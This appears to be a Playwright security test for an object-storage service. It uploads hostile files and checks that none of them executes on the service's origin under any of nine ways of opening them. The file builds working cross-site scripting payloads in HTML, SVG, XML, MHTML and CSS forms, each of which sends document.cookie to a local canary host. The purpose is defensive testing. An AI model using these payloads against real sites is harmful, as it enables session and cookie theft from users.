// Abuse cases A02 to A04: stored objects are on our origin, and must never act there.
import { createBucket, presignGetObject, putObject } from '@stowage/storage-client';
import type { Page } from '@playwright/test';

import { startCanary, type Canary } from '../support/canary.ts';
import { signUpPerson, type Person } from '../support/person.ts';
import { expect, test } from '../support/test.ts';

const bucket = 'hostile';

/** What each file would do if it could: say so to the canary, with our cookie. */
function attack(canary: string): string {
  return `fetch('${canary}/ran?'+document.cookie);new Image().src='${canary}/ran?'+document.cookie;`;
}

function hostileFiles(canary: string): { name: string; type: string | undefined; body: string; override?: string }[] {
  const script = attack(canary);
  const html = `<!doctype html><script>${script}</script><img src="${canary}/img" onerror="${script}"><form action="${canary}/form"><input autofocus onfocus="${script}"></form>`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><script>${script}</script><image href="${canary}/svg"/></svg>`;
  return [
    { name: 'page.html', type: 'text/html', body: html },
    {
      name: 'page.xhtml',
      type: 'application/xhtml+xml',
      body: `<html xmlns="http://www.w3.org/1999/xhtml"><script>${script}</script></html>`,
    },
    { name: 'picture.svg', type: 'image/svg+xml', body: svg },
    {
      name: 'feed.xml',
      type: 'text/xml',
      body: `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${script}</x:script>`,
    },
    {
      name: 'style.xml',
      type: 'application/xml',
      body: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${canary}/xslt"?><a/>`,
    },
    { name: 'saved.mhtml', type: 'multipart/related', body: `MIME-Version: 1.0\nContent-Type: text/html\n\n${html}` },
    { name: 'sniff.txt', type: 'text/plain', body: html },
    { name: 'sniff.png', type: 'image/png', body: html },
    { name: 'no-type', type: undefined, body: html },
    { name: 'odd-type', type: 'text/html; charset=utf-7', body: html },
    { name: 'code.js', type: 'text/javascript', body: script },
    { name: 'override.bin', type: 'application/octet-stream', body: html, override: 'text/html' },
    { name: 'paint.css', type: 'text/css', body: `@import url(${canary}/css); body{background:url(${canary}/bg)}` },
  ];
}

const waysToOpen = {
  tab: async (page: Page, url: string) => {
    // A download makes the navigation fail, which is the point.
    await page.goto(url).catch(() => undefined);
  },
  iframe: (page: Page, url: string) => insert(page, 'iframe', 'src', url),
  object: (page: Page, url: string) => insert(page, 'object', 'data', url),
  embed: (page: Page, url: string) => insert(page, 'embed', 'src', url),
  script: (page: Page, url: string) => insert(page, 'script', 'src', url),
  stylesheet: (page: Page, url: string) => insert(page, 'link', 'href', url),
  module: async (page: Page, url: string) => {
    await page.evaluate((address) => import(address).catch(() => undefined), url);
  },
  worker: async (page: Page, url: string) => {
    await page.evaluate((address) => {
      try {
        void new Worker(address);
      } catch {
        // Refused at once by the content security policy.
      }
    }, url);
  },
  'service worker': async (page: Page, url: string) => {
    await page.evaluate(
      (address) =>
        navigator.serviceWorker.register(address).then(
          () => undefined,
          () => undefined,
        ),
      url,
    );
  },
} satisfies Record<string, (page: Page, url: string) => Promise<void>>;

async function insert(page: Page, tag: string, attribute: string, url: string): Promise<void> {
  await page.evaluate(
    async ({ tag, attribute, url }) => {
      const element = document.createElement(tag);
      if (tag === 'link') element.setAttribute('rel', 'stylesheet');
      try {
        element.setAttribute(attribute, url);
      } catch {
        return; // Trusted Types refused the address.
      }
      const settled = new Promise((resolve) => {
        for (const event of ['load', 'error']) element.addEventListener(event, resolve);
        setTimeout(resolve, 300);
      });
      document.body.append(element);
      await settled;
      element.remove();
    },
    { tag, attribute, url },
  );
}

test.describe('a stored object', () => {
  let person: Person;
  let canary: Canary;

  test.beforeAll(async ({ stowage }) => {
    person = await signUpPerson(stowage);
    canary = await startCanary();
    await createBucket(person.s3, { Bucket: bucket });
    for (const file of hostileFiles(canary.url)) {
      await putObject(person.s3, {
        Bucket: bucket,
        Key: file.name,
        Body: new Blob([file.body]),
        ...(file.type === undefined ? {} : { ContentType: file.type }),
      });
    }
  });

  test.afterAll(async () => {
    await canary.stop();
  });

  for (const guard of ['with the policy of our pages', 'by the gateway alone'] as const) {
    for (const [way, open] of Object.entries(waysToOpen)) {
      test(`never acts when opened as ${way}, ${guard}`, async ({ browser, stowage }) => {
        // Without the page's policy only what the gateway refuses and how it labels its answers is left.
        const context = await browser.newContext({ bypassCSP: guard === 'by the gateway alone', baseURL: stowage.url });
        await context.addCookies([{ name: 'token', value: 'the-secret-token', url: stowage.url, sameSite: 'Strict' }]);
        const page = await context.newPage();
        canary.heard.length = 0;
        let dialogs = 0;
        page.on('dialog', (dialog) => {
          dialogs += 1;
          void dialog.dismiss();
        });

        for (const file of hostileFiles(canary.url)) {
          const direct = new URL(
            await presignGetObject(person.s3, {
              Bucket: bucket,
              Key: file.name,
              ...(file.override === undefined ? {} : { ResponseContentType: file.override }),
              expiresInSeconds: 60,
            }),
          );
          await page.goto('/sign-in');
          await open(page, `/storage${direct.pathname}${direct.search}`);
        }
        await page.waitForTimeout(200);

        expect(canary.heard).toEqual([]);
        expect(dialogs).toBe(0);
        expect(context.serviceWorkers()).toEqual([]);
        await context.close();
      });
    }
  }
});
